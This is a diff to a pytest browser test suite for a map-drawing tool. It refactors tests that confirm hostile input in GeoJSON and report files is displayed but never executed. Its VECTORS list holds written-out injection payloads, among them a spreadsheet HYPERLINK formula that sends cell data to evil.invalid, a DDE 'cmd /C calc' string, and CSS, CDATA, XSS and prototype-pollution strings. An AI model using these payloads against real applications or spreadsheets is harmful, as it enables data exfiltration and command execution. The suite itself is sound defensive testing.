@@ -8,9 +8,7 @@ import dataclasses
 import io
 import json
 import re
-from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
-from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -21,6 +19,9 @@ import routes
 from routes.cli import main
 
 if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+    from pathlib import Path
+
     from playwright.sync_api import Browser
 
 pytestmark = pytest.mark.browser
@@ -63,15 +64,22 @@ VECTORS = {
     "css": "}*{background:url(//evil.invalid/x)} expression(pwned=1) </style>@import '//evil.invalid';",
     "css value": "red;background:url(javascript:pwned=1)",
     "url fragment": "#x=url(#soft)'),url(//evil.invalid/#y",
-    "formula": "=HYPERLINK(\"http://evil.invalid/?\"&A1;\"x\")+cmd|' /C calc'!A0",
+    "formula": '=HYPERLINK("http://evil.invalid/?"&A1;"x")+cmd|\' /C calc\'!A0',
     "cdata": "]]><script>pwned=1</script><![CDATA[<?xml-stylesheet href='//evil.invalid'?>",
 }
 
 # The page's own script keeps count of what it should never see.
 WATCH = """
     window.violations = [];
-    addEventListener("securitypolicyviolation", (event) => violations.push(`${event.violatedDirective} ${event.blockedURI}`));
+    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
+        violations.push(`${violatedDirective} ${blockedURI}`));
 """
+# Elements that the page has none of, links that lead out of the web, and handlers written as attributes.
+FOREIGN = """[
+    ...[...document.querySelectorAll("#panel img, body > img, iframe, object, embed, base, link")].map((e) => e.tagName),
+    ...[...document.querySelectorAll("a[href]")].map((a) => a.getAttribute("href")).filter((a) => !/^(#|https?:)/.test(a)),
+    ...[...document.querySelectorAll("*")].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith("on")),
+]"""
 
 NO_FILE_NAME = re.compile("[/\x00\ud800-\udfff]")
 
@@ -86,7 +94,7 @@ FRAGMENTS = [
     '{"__proto__":{"pwned":1}}',
     "words=%3Cscript%3Epwned%3D1%3C/script%3E&select=route:%00&from=9999999-99-99&to=NaN&map=NaN/1e999/-1e999",
     "leg=-1&leg=1e99&place=__proto__&view=Infinity,NaN,NaN&z=1e308&hidden=" + "a," * 5000,
-    "panel", # the id of an element
+    "panel",  # the id of an element
     "a" * 100_000,
 ]
 
@@ -102,10 +110,7 @@ class Watched:
         """Hold that nothing ran, nothing was asked for, nothing was complained of."""
         assert self.page.evaluate("[window.pwned, Object.prototype.pwned, {}.pwned].filter(Boolean)") == []
         assert self.page.evaluate("violations") == []
-        assert self.page.evaluate("document.querySelectorAll('#panel img, body > img, iframe, object, embed, base, link').length") == 0
-        assert self.page.evaluate("[...document.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')).filter((a) => !/^(#|https?:)/.test(a))") == []
-        handlers = "[...document.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()).filter((n) => n.startsWith('on'))"
-        assert self.page.evaluate(handlers) == []
+        assert self.page.evaluate(FOREIGN) == []
         assert self.wrong == []
 
 
@@ -154,7 +159,7 @@ def poisoned(sample: Collection, words: str) -> Collection:
     told += ("direction", "basis", "route", "title", "stroke", "report", words)
     for feature in collection["features"]:
         lists = ("countries", "countries_inferred", "as_written", "passages", "alternatives", "unplaced", "roles")
-        feature["properties"] |= dict.fromkeys(told, words) | dict.fromkeys(lists, [words])
+        feature["properties"] |= dict.fromkeys(told, words) | {key: [words] for key in lists}
         feature["properties"] |= {
             "stops": [{"name": words, "role": words, "placed": True}] * 2,
             "further_quotes": [{"exact": words, "start": 0, "end": 1}],
@@ -165,11 +170,12 @@ def poisoned(sample: Collection, words: str) -> Collection:
 
 def holds(page: Page, selector: str, words: str) -> bool:
     """Tell whether an element has these words, to the letter; half characters pass through JSON."""
-    told = "([selector, words]) => [...document.querySelectorAll(selector)].some((e) => e.textContent.includes(JSON.parse(words)))"
+    told = """([selector, words]) =>
+        [...document.querySelectorAll(selector)].some((e) => e.textContent.includes(JSON.parse(words)))"""
     return bool(page.evaluate(told, [selector, json.dumps(words)]))
 
 
-def use(page: Page, words: str, tmp_path: Path) -> None:
+def use(page: Page, words: str, tmp_path: Path, collection: Collection) -> None:
     """Do with the page what readers do, and look for the words where they are to stand."""
     assert holds(page, "#panel blockquote", words)
     assert holds(page, "#panel .source dd", words)
@@ -182,21 +188,23 @@ def use(page: Page, words: str, tmp_path: Path) -> None:
         assert holds(page, ".leaflet-popup-content", words)
         page.locator(f".findings g.{mark} .hit").first.dispatch_event("mousemove", {"clientX": 600, "clientY": 400})
         assert holds(page, ".leaflet-tooltip", words)
-    take_away(page, words, tmp_path)
+    take_away(page, words, tmp_path, collection)
 
 
-def take_away(page: Page, words: str, tmp_path: Path) -> None:
+def take_away(page: Page, words: str, tmp_path: Path, collection: Collection | None = None) -> None:
     page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('no')); }")
     page.locator("#away summary").click()
     files = {}
     for button in ("GeoJSON", "CSV", "PNG"):
         with page.expect_download() as waiting:
             page.get_by_role("button", name=button).click()
-        assert re.fullmatch(r"routes[\w-]*\.(geojson|csv|png)", re.sub(r"[\u0300-\u036f\u0483-\u0489]", "", waiting.value.suggested_filename))
+        assert re.fullmatch(
+            r"routes[\w-]*\.(geojson|csv|png)",
+            re.sub(r"[\u0300-\u036f\u0483-\u0489]", "", waiting.value.suggested_filename),
+        )
         waiting.value.save_as(tmp_path / button)
         files[button] = (tmp_path / button).read_bytes()
-    island = json.loads(page.evaluate("JSON.stringify(JSON.parse(document.querySelector('#findings').textContent))"))
-    assert json.loads(files["GeoJSON"]) == island
+    assert collection is None or json.loads(files["GeoJSON"]) == collection
     rows = list(csv.DictReader(io.StringIO(files["CSV"].decode("utf-8-sig"), newline="")))
     assert all(not re.match(r"\s*[=+@-]", cell) for row in rows for cell in [*row, *row.values()])
     assert files["PNG"].startswith(b"\x89PNG")
@@ -215,20 +223,21 @@ def test_a_hostile_file_is_shown_and_never_run(
 ) -> None:
     words = VECTORS[vector]
     file = tmp_path / (NO_FILE_NAME.sub("", words)[:60] + ".geojson")
-    file.write_text(json.dumps(poisoned(sample, words)), "utf-8")
+    collection = poisoned(sample, words)
+    file.write_text(json.dumps(collection), "utf-8")
     page_file = tmp_path / "map.html"
     done = CliRunner().invoke(main, ["draw", str(file), "-o", str(page_file)])
     assert done.exit_code == 0, done.output
     watched = watch(page_file)
-    use(watched.page, words, tmp_path)
+    use(watched.page, words, tmp_path, collection)
     watched.check()
 
 
 def test_hostile_findings_are_shown_and_never_run(watch: Callable[..., Watched], tmp_path: Path) -> None:
     file = tmp_path / "\"><img src=x onerror=pwned=1>{{7*7}}${pwned=1}'.txt"
     telling = "Trains carry press moulds from Vienna to Budapest."
-    every = [vector for name, vector in VECTORS.items() if name != "lone surrogate"]  # no file holds one
-    file.write_text("\n\n".join([telling, *every]), "utf-8")
+    every = [vector for name, vector in VECTORS.items() if name != "lone surrogate"]  # no text file holds one
+    file.write_text("\n\n".join([telling, *every]).replace("\x00", ""), "utf-8")  # with a NUL it would be a binary file
     report = routes.read_report(file, language="en")
     found = routes.find_routes(report, reader="plain")
     assert found.routes
